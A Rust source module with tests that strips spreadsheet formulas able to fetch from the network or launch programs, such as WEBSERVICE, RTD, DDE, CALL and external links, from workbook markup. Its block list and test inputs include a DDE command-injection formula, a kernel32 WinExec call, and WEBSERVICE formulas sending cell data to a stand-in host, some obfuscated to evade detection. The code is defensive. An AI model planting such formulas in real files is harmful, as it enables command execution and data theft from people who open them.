//! Formulas that fetch or start something by themselves once a workbook is opened or computed, and what is
//! left of them in what is handed on: a cell keeps its value, any other place a formula that says nothing.

use std::collections::BTreeSet;
use std::ops::Range;

use quick_xml::Reader;
use quick_xml::escape::unescape;
use quick_xml::events::Event;

use crate::Broken;
use crate::markup::{Splices, attribute};

/// Functions that ask the web, another program or a data source, in small letters without prefix.
const FETCHING: [&str; 15] = [
    "webservice",
    "image",
    "rtd",
    "dde",
    "stockhistory",
    "translate",
    "detectlanguage",
    "copilot",
    "py",
    "call",
    "register",
    "register.id",
    "exec",
    "sql.request",
    "sqlrequest",
];

/// Functions of data sources all begin so.
const OF_CUBES: &str = "cube";

/// The elements in which formulas stand, without prefix.
const PLACES: [&str; 7] = [
    "f",
    "formula",
    "formula1",
    "formula2",
    "definedName",
    "calculatedColumnFormula",
    "totalsRowFormula",
];

/// What stands in the place of a formula that is no cell's.
const NOTHING: &str = "NA()";

/// A formula: where all of it and where its text stand, and of what it is.
struct Found {
    whole: Range<usize>,
    inner: Range<usize>,
    is_of_cell: bool,
    /// The number of formulas that are written once for many cells.
    shared: Option<String>,
    fetches: bool,
}

/// A text of markup without formulas that fetch; none where it has none.
///
/// # Errors
/// Markup that can't be read.
pub(crate) fn without_fetching(text: &str) -> Result<Option<String>, Broken> {
    let found = formulas(text)?;
    let shared: BTreeSet<&String> = (found.iter())
        .filter(|one| one.fetches)
        .filter_map(|one| one.shared.as_ref())
        .collect();
    let mut splices = Splices::default();
    let mut is_changed = false;
    for one in &found {
        let of_shared = one.shared.as_ref().is_some_and(|id| shared.contains(id));
        if !one.fetches && !of_shared {
            continue;
        }
        is_changed = true;
        match one.is_of_cell {
            true => splices.replace(one.whole.clone(), ""),
            false => splices.replace(one.inner.clone(), NOTHING),
        }
    }
    Ok(is_changed.then(|| splices.apply(text)))
}

fn formulas(text: &str) -> Result<Vec<Found>, Broken> {
    let stretch = text.trim_start_matches('\u{FEFF}');
    let offset = text.len() - stretch.len();
    let mut reader = Reader::from_str(stretch);
    let mut found = Vec::new();
    // Names of the elements that are open, and the formula that is.
    let mut open: Vec<bool> = Vec::new();
    let mut begun: Option<(usize, Found)> = None;
    let mut before = offset;
    loop {
        let event = reader.read_event().map_err(|_| Broken)?;
        let after = offset + usize::try_from(reader.buffer_position()).map_err(|_| Broken)?;
        match event {
            Event::Eof => break,
            Event::Start(tag) => {
                let name = tag.local_name();
                let name = name.as_ref();
                if begun.is_none() && PLACES.contains(&name) {
                    let is_of_cell = open.last() == Some(&true);
                    let tag = text.get(before..after).ok_or(Broken)?;
                    let shared = attribute(tag, "si").filter(|_| is_of_cell);
                    let formula = Found {
                        whole: before..after,
                        inner: after..after,
                        is_of_cell,
                        shared,
                        fetches: false,
                    };
                    begun = Some((open.len(), formula));
                }
                open.push(name == "c");
            }
            Event::Empty(tag) => {
                let of_cell = open.last() == Some(&true) && tag.local_name().as_ref() == "f";
                if of_cell && begun.is_none() {
                    let tag = text.get(before..after).ok_or(Broken)?;
                    found.push(Found {
                        whole: before..after,
                        inner: after..after,
                        is_of_cell: true,
                        shared: attribute(tag, "si"),
                        fetches: false,
                    });
                }
            }
            Event::End(_) => {
                open.pop().ok_or(Broken)?;
                if let Some((_, mut formula)) = begun.take_if(|(depth, _)| *depth == open.len()) {
                    formula.whole.end = after;
                    formula.inner.end = before;
                    let raw = text.get(formula.inner.clone()).ok_or(Broken)?;
                    formula.fetches = plain(raw).is_none_or(|formula| fetches(&formula));
                    found.push(formula);
                }
            }
            _ => {}
        }
        before = after;
    }
    Ok(found)
}

/// What markup without elements says: references resolved, comments left out; none where nobody can tell.
fn plain(raw: &str) -> Option<String> {
    let mut out = String::with_capacity(raw.len());
    let mut rest = raw;
    while let Some(at) = rest.find('<') {
        out.push_str(&unescape(&rest[..at]).ok()?);
        let marked = &rest[at..];
        let (text, behind) = if let Some(inner) = marked.strip_prefix("<!--") {
            ("", inner.split_once("-->")?.1)
        } else if let Some(inner) = marked.strip_prefix("<![CDATA[") {
            inner.split_once("]]>")?
        } else if let Some(inner) = marked.strip_prefix("<?") {
            ("", inner.split_once("?>")?.1)
        } else {
            return None;
        };
        out.push_str(text);
        rest = behind;
    }
    out.push_str(&unescape(rest).ok()?);
    Some(out)
}

/// Whether a formula fetches or starts something by itself: it calls such a function, or names a file
/// of another machine or another program in the place of a cell.
fn fetches(formula: &str) -> bool {
    // What stands in quotation marks is a text: only `INDIRECT` takes one for a place.
    let mut outside = String::with_capacity(formula.len());
    let mut texts = String::new();
    let mut is_text = false;
    for letter in formula.chars() {
        match (letter, is_text) {
            ('"', _) => is_text = !is_text,
            (_, true) => texts.push(letter),
            (_, false) => outside.push(letter),
        }
    }
    let outside = outside.to_lowercase();
    let names_a_place =
        |text: &str| text.contains("\\\\") || text.contains("//") || text.contains("file:");
    if outside.contains('|') || names_a_place(&outside) {
        return true;
    }
    let mut calls = outside
        .match_indices('(')
        .map(|(at, _)| called(&outside[..at]));
    calls.any(|name| {
        FETCHING.contains(&name)
            || name.starts_with(OF_CUBES)
            || (name == "indirect" && (names_a_place(&texts) || texts.contains(['[', '#'])))
    })
}

/// The function that a text ends with, without the prefixes of newer versions.
fn called(text: &str) -> &str {
    let text = text.trim_end();
    let is_part = |c: char| c.is_alphanumeric() || matches!(c, '.' | '_');
    let name = text.rfind(|c| !is_part(c)).map_or(text, |at| {
        text.get(at..)
            .and_then(|rest| rest.char_indices().nth(1).map(|(step, _)| &rest[step..]))
            .unwrap_or_default()
    });
    let mut name = name;
    while let Some((prefix, rest)) = name.split_once('.') {
        if !prefix.starts_with("_xl") && prefix != "com" {
            break;
        }
        name = rest;
    }
    name
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sheet(cells: &str) -> String {
        format!("<worksheet><sheetData><row r=\"1\">{cells}</row></sheetData></worksheet>")
    }

    #[test]
    fn cells_keep_their_values_without_formulas_that_fetch() {
        for formula in [
            "_xlfn.WEBSERVICE(\"http://may-la/\"&amp;A1)",
            "1+ webService (A1)",
            "&#87;EBSERVICE(A1)",
            "WEB<!-- x -->SERVICE(A1)",
            "<![CDATA[RTD(\"a\",,\"b\")]]>",
            "_xlfn.IMAGE(\"https://may-la/x.png\")",
            "CUBEVALUE(\"ket-noi\",A1)",
            "'\\\\may-la\\chung\\[a.xlsx]B'!A1",
            "'file:///may-la/a.ods'#$B.A1",
            "cmd|'/c calc'!A0",
            "INDIRECT(\"'\\\\may-la\\c\\[a.xlsx]B'!A1\")",
            "CALL(\"kernel32\",\"WinExec\")",
        ] {
            let text = sheet(&format!("<c r=\"A1\"><f>{formula}</f><v>7</v></c>"));
            let left = without_fetching(&text).unwrap();
            assert_eq!(left, Some(sheet("<c r=\"A1\"><v>7</v></c>")), "{formula}");
        }
    }

    #[test]
    fn other_formulas_stay() {
        for formula in [
            "SUM(A1:B2)/COUNT(A:A)",
            "HYPERLINK(\"https://a.vn\",\"xem\")",
            "INDIRECT(\"A\"&amp;ROW())",
            "IF(A1=\"WEBSERVICE(\",\"a|b\",\"http://a.vn\")",
            "IMAGES(A1)",
            "[1]Bang!A1",
        ] {
            let text = sheet(&format!("<c r=\"A1\"><f>{formula}</f><v>7</v></c>"));
            assert_eq!(without_fetching(&text).unwrap(), None, "{formula}");
        }
    }

    #[test]
    fn a_formula_of_many_cells_goes_from_all_of_them() {
        let cell = |at: u8, formula: &str| format!("<c r=\"A{at}\">{formula}<v>{at}</v></c>");
        let text = sheet(
            &[
                cell(
                    1,
                    "<f t=\"shared\" ref=\"A1:A2\" si=\"0\">WEBSERVICE(B1)</f>",
                ),
                cell(2, "<f t=\"shared\" si=\"0\"/>"),
                cell(3, "<f t=\"shared\" ref=\"A3:A4\" si=\"1\">B3+1</f>"),
                cell(4, "<f t=\"shared\" si=\"1\"></f>"),
            ]
            .concat(),
        );
        let left = without_fetching(&text).unwrap().unwrap();
        assert!(
            !left.contains("si=\"0\"") && left.contains("<v>1</v>") && left.contains("<v>2</v>")
        );
        assert_eq!(left.matches("si=\"1\"").count(), 2);
    }

    #[test]
    fn conditions_and_names_say_nothing_instead() {
        let text = "<workbook><definedNames><definedName name=\"a\">WEBSERVICE(\"x\")</definedName><definedName name=\"b\">B!$A$1</definedName></definedNames></workbook>";
        let left = without_fetching(text).unwrap().unwrap();
        assert!(left.contains("name=\"a\">NA()<") && left.contains("name=\"b\">B!$A$1<"));
        let text = "<worksheet><conditionalFormatting><cfRule><formula>LEN(WEBSERVICE(A1))&gt;0</formula></cfRule></conditionalFormatting><ext><xm:f>RTD(A1)</xm:f></ext></worksheet>";
        let left = without_fetching(text).unwrap().unwrap();
        assert_eq!(left.matches("NA()").count(), 2);
    }
}
